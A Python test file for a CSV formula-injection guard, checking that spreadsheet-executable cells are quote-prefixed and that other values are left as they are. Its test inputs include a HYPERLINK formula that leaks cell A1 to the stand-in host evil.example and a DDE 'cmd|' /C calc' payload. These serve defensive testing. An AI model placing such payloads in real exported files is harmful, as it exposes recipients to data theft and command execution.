"""The CSV formula-injection guard: what is quoted, what is left alone, and that the
quoted cell reads back as the same text behind one quote."""

from __future__ import annotations

import csv
import io

import pytest

from orchestrion.kernel.csvsafe import SafeDictWriter, SafeWriter, safe_cell

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize(
    "value",
    [ATTACK, "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)", "\t=1+1", "\r=1+1"],
)
def test_text_a_spreadsheet_would_run_is_quoted(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["plain", "a=b", "", " =1", -5, 3.5, None, True])
def test_anything_else_is_left_as_it_is(value: object) -> None:
    assert safe_cell(value) == value


def test_writers_quote_cells_and_round_trip() -> None:
    buffer = io.StringIO()
    SafeWriter(buffer).writerow(["id", ATTACK, -1])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["id", "'" + ATTACK, "-1"]
    buffer = io.StringIO()
    writer = SafeDictWriter(buffer, ["a", "b"])
    writer.writeheader()
    writer.writerow({"a": "@x", "b": 2})
    assert list(csv.DictReader(io.StringIO(buffer.getvalue()))) == [{"a": "'@x", "b": "2"}]
